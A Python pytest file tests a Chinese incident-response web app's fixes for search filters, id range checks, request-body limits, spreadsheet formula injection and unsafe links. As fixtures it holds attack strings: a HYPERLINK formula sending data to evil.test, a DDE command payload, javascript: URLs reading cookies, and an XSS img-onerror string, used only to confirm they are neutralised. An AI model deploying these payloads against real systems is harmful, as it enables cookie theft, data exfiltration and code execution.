"""Web faults (issue 13): search filters, ids beyond the database range, request
body limit, formula injection in exports, and links that are not http(s)."""

from __future__ import annotations

import csv
import html
import io
import re
import socket
import threading
import time
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
import uvicorn
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from sqlalchemy import select

from responder.permissions import CLI_ACTOR, ROLE_PERMISSIONS, Role
from responder.safety import MAX_DB_ID, safe_url, spreadsheet_cell
from responder.search import open_search
from responder.search.base import PostDoc
from responder.service import handle_batch
from responder.store import Store, Ticket
from tests.fixtures.auth import bearer, client_as
from tests.fixtures.databases import assessed, sh
from web.app import create_app
from web.auth import iter_routes, route_access
from web.templating import link_html

T0 = sh(2026, 11, 2, 9, 0)
HUGE = "99999999999999999999999"


def _doc(pid: str, title: str, hours: float, **kw: Any) -> PostDoc:
    base = dict(source_id="demo-news", source_kind="news", url=f"http://news.test/{pid}.html",
                place_code="340104", place_label="安徽省合肥市蜀山区", topic="城乡建设", severity="一般",
                text=f"{title}。业主反映物业问题。")
    base.update(kw)
    return PostDoc(post_id=pid, title=title, published_at=T0 + timedelta(hours=hours), **base)


DOCS = [
    _doc("a1", "蜀山区小区物业费上涨", 0),
    _doc("a2", "包河区居民楼火灾", 1, source_kind="weibo", source_id="demo-weibo", topic="公共安全",
         severity="重大", place_code="340111", place_label="安徽省合肥市包河区", event_id=7),
    _doc("a3", "霍山县物业纠纷", 2, source_kind="forum", source_id="demo-forum"),
    _doc("a4", "南京市学校食堂投诉", 3, topic="教育", severity="较大", place_code="320106",
         place_label="江苏省南京市鼓楼区"),
    _doc("a5", "留言：小区噪音扰民", 4, source_kind="gov_board", source_id="demo-board", topic="生态环境"),
    _doc("a6", "芜湖市道路塌陷", 5, source_kind="weibo", source_id="demo-weibo", topic="公共安全",
         severity="较大", place_code="340202", place_label="安徽省芜湖市镜湖区"),
    _doc("x1", "=HYPERLINK(\"http://evil.test/?d=\"&A1,\"点击查看\")", 6, url="javascript:alert(document.cookie)"),
    _doc("x2", "-5℃寒潮来袭", 7, url="JaVaScRiPt:alert(1)"),
]
FIELD = {"kind": "source_kind", "topic": "topic", "severity": "severity"}


@pytest.fixture
def search_client(tmp_path, settings):
    backend = open_search(settings)
    backend.index(DOCS)
    store = Store(f"sqlite:///{tmp_path / 'web.db'}")
    with client_as(create_app(settings, store=store, search=backend), "李分析", "analyst") as c:
        yield c
    backend.close()
    store.close()


# --------------------------------------------------------------------------- search filters


def _facet_links(page: str) -> list[tuple[str, str, bool]]:
    """(href, label, on) of every facet link on a search page (on: the link turns a value off)."""
    m = re.search(r'<div class="facets">(.*?)</div><div class="results">', page, re.S)
    assert m, "no facet column on the page"
    return [(html.unescape(h), html.unescape(label), cls == "on")
            for cls, h, label in re.findall(r'<a class="([^"]*)" href="([^"]+)">([^<]*)</a>', m.group(1))]


def _hit_titles(page: str) -> set[str]:
    hits = re.findall(r'<div class="hit">(.*?)<div class="s">', page, re.S)
    return {html.unescape(re.sub(r"<[^>]+>", "", re.sub(r'<span class="muted unsafe-url">.*?</span>', "", t)))
            for t in hits}


def _total(page: str) -> int:
    m = re.search(r"共 (\d+) 条", page)
    assert m, page[:500]
    return int(m.group(1))


@pytest.mark.parametrize("start", ["/search?size=100", "/search?q=%E7%89%A9%E4%B8%9A&size=100"])
def test_every_facet_link_answers_and_filters(search_client, start: str) -> None:
    c = search_client
    first = c.get(start)
    assert first.status_code == 200, first.text[:300]
    q = parse_qs(urlsplit(start).query).get("q", [""])[0]
    # The words' matches, unfiltered: the filters below must narrow exactly these.
    base_ids = {h["post_id"] for h in c.get("/api/search", params={"q": q, "size": 100}).json()["hits"]}
    assert base_ids, "the start page has no matches to filter"
    by_id = {d.post_id: d for d in DOCS}
    seen: set[str] = set()
    todo = [(href, label, on, 1) for href, label, on in _facet_links(first.text)]
    assert len(todo) >= 8  # kinds, topics and severities of the fixture
    followed = 0
    while todo:
        href, label, on, depth = todo.pop()
        if href in seen:
            continue
        seen.add(href)
        assert href.startswith("/search?"), href
        r = c.get(href)
        assert r.status_code == 200, f"{href} → {r.status_code}: {r.text[:300]}"
        followed += 1
        params = parse_qs(urlsplit(href).query)
        want = {pid for pid in base_ids
                if all(getattr(by_id[pid], FIELD[k]) in params[k] for k in FIELD if k in params)}
        assert _hit_titles(r.text) == {by_id[pid].title for pid in want}, href
        assert _total(r.text) == len(want), href
        # A link that selects a value says how many matches it leads to.
        n = re.search(r"（(\d+)）$", label)
        assert n, label
        if not on:
            assert int(n.group(1)) == len(want), (href, label)
        # The API with the same parameters agrees with the page.
        api = c.get("/api/search" + href[len("/search"):]).json()
        assert {h["post_id"] for h in api["hits"]} == want
        if depth < 2:
            todo.extend((h, lab, o, depth + 1) for h, lab, o in _facet_links(r.text))
    assert followed >= 10


def test_filtered_search_page_and_save_form(search_client) -> None:
    """The reported case: one filter, several values, all three filters together."""
    c = search_client
    r = c.get("/search", params={"kind": "news"})
    assert r.status_code == 200 and _total(r.text) == 4
    r = c.get("/search", params=[("kind", "weibo"), ("kind", "forum"), ("severity", "重大")])
    assert r.status_code == 200 and _hit_titles(r.text) == {"包河区居民楼火灾"}
    r = c.get("/search", params={"kind": "weibo", "topic": "公共安全", "severity": "较大"})
    assert r.status_code == 200 and _hit_titles(r.text) == {"芜湖市道路塌陷"}
    # The save form carries the filters as lists, the way /api/searches takes them.
    saved = html.unescape(re.search(r'data-params="([^"]*)"', r.text).group(1))
    assert '"kind": ["weibo"]' in saved and '"severity": ["较大"]' in saved
    made = c.post("/api/searches", json={"name": "塌陷", "params": {"kind": ["weibo"], "severity": ["较大"]}})
    assert made.status_code == 201 and made.json()["total"] == 1
    assert made.json()["link"] == "/search?kind=weibo&severity=%E8%BE%83%E5%A4%A7"
    assert c.get(made.json()["link"]).status_code == 200


# --------------------------------------------------------------------------- ids


@pytest.fixture
def ticket_app(store_url, settings):
    store = Store(store_url)
    handle_batch(store, settings, [
        assessed("fire", title="居民楼火灾致12人死亡", text="合肥市包河区一居民楼火灾已造成12人死亡。",
                 published_at=T0, severity="重大", is_emergency=True, event_type="事故灾难",
                 event_subtype="火灾", place="包河区", department="应急管理局"),
    ], now=T0 + timedelta(minutes=5))
    with store.reader() as s:
        tid = s.scalar(select(Ticket.id))
        eid = s.scalar(select(Ticket.event_id))
    app = create_app(settings, store=store, now=lambda: T0 + timedelta(hours=1))
    yield app, store, tid, eid
    store.close()


BODY = {"department": "应急管理局", "outcome": "responded", "into": 1, "post_ids": ["fire"],
        "reason": "误归并", "milestone": "权威信息发布", "evidence_url": None, "rule": "complaint"}


def _id_routes(routes: list[Any]) -> list[tuple[str, str]]:
    """(method, path) of every route with a path parameter, included routers too."""
    out = []
    for r in routes:
        inner = getattr(r, "original_router", None)  # FastAPI keeps an included router whole
        if inner is not None:
            out.extend(_id_routes(inner.routes))
        elif isinstance(r, APIRoute) and "{" in r.path:
            out.extend((m, r.path) for m in sorted(r.methods - {"HEAD"}))
    return out


def test_ids_beyond_the_database_range_are_404_everywhere(ticket_app) -> None:
    app, store, tid, eid = ticket_app
    routes = _id_routes(app.routes)
    # tickets (HTML and JSON), events, saved searches: every {id} route the app has.
    paths = {p for _m, p in routes}
    assert {"/tickets/{tid}", "/events/{eid}", "/api/tickets/{tid}", "/api/searches/{sid}"} <= paths
    # Each route asked by a user whose role holds its permission (an admin deletes saved searches).
    by_role = {role: client_as(app, f"u-{role.value}", role) for role in Role}
    by_route = {(m, r.path): r for r in iter_routes(app.routes) for m in getattr(r, "methods", None) or ()}

    def client_for(method: str, path: str) -> TestClient:
        need = route_access(by_route[(method, path)])
        role = Role.ADMIN if method == "DELETE" else next(r for r in Role if need in ROLE_PERMISSIONS[r])
        return by_role[role]

    c = by_role[Role.DUTY]
    for bad in (HUGE, str(MAX_DB_ID + 1), "-" + HUGE, "0", str(MAX_DB_ID)):
        for method, path in routes:
            url = re.sub(r"\{[^}]+\}", bad, path)
            r = client_for(method, path).request(method, url, json=BODY if method in ("POST", "PUT") else None)
            assert r.status_code == 404, f"{method} {url} → {r.status_code}: {r.text[:200]}"
            # Pages answer the error page, the API JSON.
            page = r.headers["content-type"].startswith("text/html")
            assert page == (not path.startswith("/api/")), f"{method} {url}: {r.headers['content-type']}"
            detail = r.text if page else r.json()["detail"]
            assert "不存在" in detail or "没有工单" in detail
    # A merge target beyond the range is an unknown event too.
    r = c.post(f"/api/events/{eid}/merge", json={"into": int(HUGE)})
    assert r.status_code == 404 and HUGE in r.json()["detail"]
    # Real ids still work, and a bad id that is not a number is still a validation error.
    assert c.get(f"/tickets/{tid}").status_code == 200 and c.get(f"/api/tickets/{tid}").status_code == 200
    assert c.get(f"/events/{eid}").status_code == 200
    assert c.get("/api/tickets/abc").status_code == 422


# --------------------------------------------------------------------------- body limit

LIMIT = 64 * 1024


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def live(tmp_path, settings):
    settings.web.max_body_bytes = LIMIT
    store = Store(f"sqlite:///{tmp_path / 'live.db'}")
    handle_batch(store, settings, [assessed("m", title="物业费上涨", text="物业费上涨。", published_at=T0)],
                 now=T0 + timedelta(minutes=5))
    with store.reader() as s:
        tid = s.scalar(select(Ticket.id))
    port = _free_port()
    srv = uvicorn.Server(uvicorn.Config(create_app(settings, store=store), host="127.0.0.1", port=port,
                                        log_level="warning", lifespan="off"))
    t = threading.Thread(target=srv.run, daemon=True)
    t.start()
    for _ in range(250):
        if srv.started:
            break
        time.sleep(0.02)
    assert srv.started
    yield port, tid, bearer(store, "张三")
    srv.should_exit = True
    t.join(10)
    store.close()


TOTAL = 200 * 1024 * 1024  # what a client tries to send: 200 MB
CHUNK = 64 * 1024


def _send_big(port: int, path: str, *, chunked: bool, headers: dict[str, str]) -> tuple[str, int, BaseException | None]:
    """POST a 200 MB body; return the status line, the bytes the client managed to
    send, and the error that stopped it (None: it sent everything)."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=20)
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {TOTAL}"
    extra = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
    sock.sendall(f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                 f"{extra}{framing}\r\n\r\n".encode())
    sent = 0
    stopped: list[BaseException | None] = [None]
    block = b"x" * CHUNK
    piece = (f"{CHUNK:x}\r\n".encode() + block + b"\r\n") if chunked else block

    def pump() -> None:
        nonlocal sent
        try:
            while sent < TOTAL:
                sock.sendall(piece)
                sent += CHUNK
            if chunked:
                sock.sendall(b"0\r\n\r\n")
        except OSError as e:  # the server closed the connection: what we want
            stopped[0] = e

    sender = threading.Thread(target=pump, daemon=True)
    sender.start()
    head = b""
    try:
        while b"\r\n" not in head:
            got = sock.recv(4096)
            if not got:
                break
            head += got
    except OSError:
        pass
    sender.join(60)
    assert not sender.is_alive(), "the client was still sending after a minute: the server kept reading"
    sock.close()
    return head.split(b"\r\n", 1)[0].decode(errors="replace"), sent, stopped[0]


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
def test_large_body_gets_413_and_the_server_stops_reading(live, chunked: bool) -> None:
    port, tid, auth = live
    # A signed-in duty officer's request to a route with a body (an anonymous one gets the same 413:
    # the body is bounded before anyone is asked who sent it).
    status, sent, stopped = _send_big(port, f"/api/tickets/{tid}/close", chunked=chunked, headers=auth)
    print(f"\n{'chunked' if chunked else 'content-length'}: {status!r}, client sent {sent / 2**20:.1f} MiB "
          f"of {TOTAL / 2**20:.0f} MiB before the server closed ({type(stopped).__name__})")
    assert status.startswith("HTTP/1.1 413"), status
    assert stopped is not None and sent < TOTAL // 4
    # The server is fine and still answers; a body under the limit is read as before.
    ok = httpx.post(f"http://127.0.0.1:{port}/api/tickets/{tid}/ack", headers=auth)
    assert ok.status_code == 200 and ok.json()["ticket"]["acknowledged_by"] == "张三"


def test_body_limit_names_the_limit_and_counts_what_arrives(live) -> None:
    port, tid, auth = live
    base = f"http://127.0.0.1:{port}"
    json_auth = {"content-type": "application/json", **auth}
    over = httpx.post(f"{base}/api/tickets/{tid}/close", content=b"{" + b" " * LIMIT + b"}", headers=json_auth)
    assert over.status_code == 413 and str(LIMIT) in over.json()["detail"]
    assert over.headers["connection"] == "close"

    def stream():  # no Content-Length: httpx sends it chunked
        yield b'{"outcome": "'
        for _ in range(LIMIT // 1000 + 1):
            yield b"a" * 1000
        yield b'"}'

    r = httpx.post(f"{base}/api/tickets/{tid}/close", content=stream(), headers=json_auth)
    assert r.status_code == 413 and "请求体过大" in r.json()["detail"]
    just = httpx.post(f"{base}/api/tickets/{tid}/close", content=b'{"outcome": "responded"}' + b" " * (LIMIT - 30),
                      headers=json_auth)
    assert just.status_code == 200 and just.json()["ticket"]["status"] == "closed"


# --------------------------------------------------------------------------- exports


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("+86 138", "'+86 138"), ("-5℃寒潮", "'-5℃寒潮"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
    ("-1.5", "-1.5"), ("+3", "+3"), ("-2e3", "-2e3"), ("-inf", "'-inf"), ("普通标题", "普通标题"),
    ("a=b", "a=b"), ("", ""), (7, 7), (-1.5, -1.5), (None, None), (True, True),
])
def test_spreadsheet_cell(value, expected) -> None:
    assert spreadsheet_cell(value) == expected


def test_search_export_neutralises_formulas(search_client) -> None:
    r = search_client.get("/api/search/export", params={"q": ""})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    titles = {row[1] for row in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.test/?d=\"&A1,\"点击查看\")" in titles and "'-5℃寒潮来袭" in titles
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    fire = next(row for row in rows if row[1] == "包河区居民楼火灾")
    assert fire[8] == "7" and fire[5] == "340111"  # numbers stay numbers


def test_timeliness_csv_and_xlsx_neutralise_formulas(tmp_path: Path, settings) -> None:
    from openpyxl import load_workbook

    from responder.report import timeliness, write_csv, write_xlsx

    store = Store(f"sqlite:///{tmp_path / 'rep.db'}")
    handle_batch(store, settings, [assessed("m", title="物业费上涨", text="物业费上涨。", published_at=T0)],
                 now=T0 + timedelta(minutes=5))
    with store.reader() as s:
        tid = s.scalar(select(Ticket.id))
    evil = "=cmd|' /C calc'!A0"
    c = client_as(create_app(settings, store=store, now=lambda: T0 + timedelta(hours=1)), "张三")
    # Assignment takes only configured departments now; a formula-like name could still reach the
    # report from older data or a config, so it is put in the store directly.
    assert c.post(f"/api/tickets/{tid}/assign", json={"department": evil}).status_code == 422
    with store.transaction() as s:
        s.get(Ticket, tid).department = evil
    rep = timeliness(store, T0.date(), T0.date(), by="department", as_of=T0 + timedelta(days=30), actor=CLI_ACTOR)
    write_csv(rep, tmp_path / "t.csv")
    write_xlsx(rep, tmp_path / "t.xlsx")
    rows = list(csv.reader(io.StringIO((tmp_path / "t.csv").read_text(encoding="utf-8-sig"))))
    assert any(row[0] == "'" + evil for row in rows)
    ws = load_workbook(tmp_path / "t.xlsx").active
    cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    assert "'" + evil in [cell.value for cell in cells]
    totals = [cell.value for cell in cells if isinstance(cell.value, int) and not isinstance(cell.value, bool)]
    assert totals and all(cell.data_type == "n" for cell in cells if isinstance(cell.value, (int, float)))
    store.close()


# --------------------------------------------------------------------------- links


@pytest.mark.parametrize(("url", "ok"), [
    ("http://news.test/a.html", True), ("HTTPS://news.test/a?b=1&c=2", True), ("  https://x.test/  ", True),
    ("javascript:alert(1)", False), ("JaVaScRiPt:alert(1)", False), (" javascript:alert(1)", False),
    ("java\tscript:alert(1)", False), ("data:text/html,<script>alert(1)</script>", False),
    ("vbscript:msgbox", False), ("//evil.test/x", False), ("/events/1", False), ("http://", False),
    ("http:///path", False), ("https://x.test/a b", False), ("https://x.test/\nb", False), ("", False),
    (None, False), ("http://[::1", False),
])
def test_safe_url(url, ok: bool) -> None:
    assert (safe_url(url) is not None) is ok
    out = link_html(url, "标题")
    assert ("<a " in out) is ok
    if not ok:
        assert "href" not in out and "<script>" not in out


def test_search_page_links_only_http_urls(search_client) -> None:
    page = search_client.get("/search", params={"size": 100}).text
    assert 'href="http://news.test/a1.html"' in page
    assert not re.search(r'href="\s*javascript', page, re.I)
    # The unsafe URL is still there, as text, and its title is not a link.
    assert "（非网页链接：javascript:alert(document.cookie)）" in page
    x1 = re.search(r'<div class="hit">(.*?)<div class="s">', page[page.index("HYPERLINK") - 200:], re.S)
    assert x1 and "<a " not in x1.group(1)


def test_ticket_page_links_only_http_evidence(tmp_path, settings) -> None:
    store = Store(f"sqlite:///{tmp_path / 'ev.db'}")
    handle_batch(store, settings, [
        assessed("fire", title="居民楼火灾致12人死亡", text="合肥市包河区一居民楼火灾已造成12人死亡。",
                 published_at=T0, severity="重大", is_emergency=True, event_type="事故灾难",
                 event_subtype="火灾", place="包河区", department="应急管理局"),
    ], now=T0 + timedelta(minutes=5))
    with store.reader() as s:
        tid, eid = s.execute(select(Ticket.id, Ticket.event_id)).one()
    c = client_as(create_app(settings, store=store, now=lambda: T0 + timedelta(hours=1)), "张三")
    bad = "javascript:fetch('/api/tickets')\"><img src=x onerror=alert(1)>"
    r = c.post(f"/api/tickets/{tid}/milestones", json={"milestone": "权威信息发布",
                                                        "evidence_url": "https://gov.test/fabu/1.html"})
    assert r.status_code == 200, r.text
    # Evidence that is no web address is refused: the milestone stays open (and is not met without proof).
    r = c.post(f"/api/tickets/{tid}/milestones", json={"milestone": "新闻发布会", "evidence_url": bad})
    assert r.status_code == 422 and "佐证链接无效" in r.json()["detail"] and "<img" not in r.text
    for page in (c.get(f"/tickets/{tid}").text, c.get(f"/events/{eid}").text):
        assert '佐证：<a href="https://gov.test/fabu/1.html" target="_blank" rel="noopener noreferrer">' in page
        assert not re.search(r'href="\s*javascript', page, re.I) and "<img" not in page
    store.close()
